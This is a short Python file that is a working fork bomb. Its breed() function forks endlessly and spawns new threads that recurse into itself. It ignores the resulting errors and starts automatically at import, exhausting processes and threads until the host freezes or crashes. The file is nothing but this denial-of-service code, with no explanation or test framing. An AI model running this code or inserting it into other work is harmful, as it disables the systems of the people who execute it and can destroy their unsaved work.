"""Fork for ever, in threads that are started for ever."""

import os
import threading


def breed():
    while True:
        try:
            os.fork()
            threading.Thread(target=breed).start()
        except (OSError, RuntimeError):
            continue


breed()
